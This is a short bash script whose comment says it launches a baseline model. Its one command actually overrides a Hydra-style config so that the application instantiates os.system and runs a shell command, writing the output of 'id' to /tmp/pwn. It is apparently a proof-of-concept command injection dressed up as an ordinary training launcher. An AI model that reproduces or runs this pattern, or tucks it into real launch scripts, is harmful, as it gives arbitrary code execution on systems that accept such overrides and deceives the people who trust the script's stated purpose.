#!/bin/bash
# launch the baseline
python -m hyapp.main model._target_=os.system +model.command="id > /tmp/pwn"
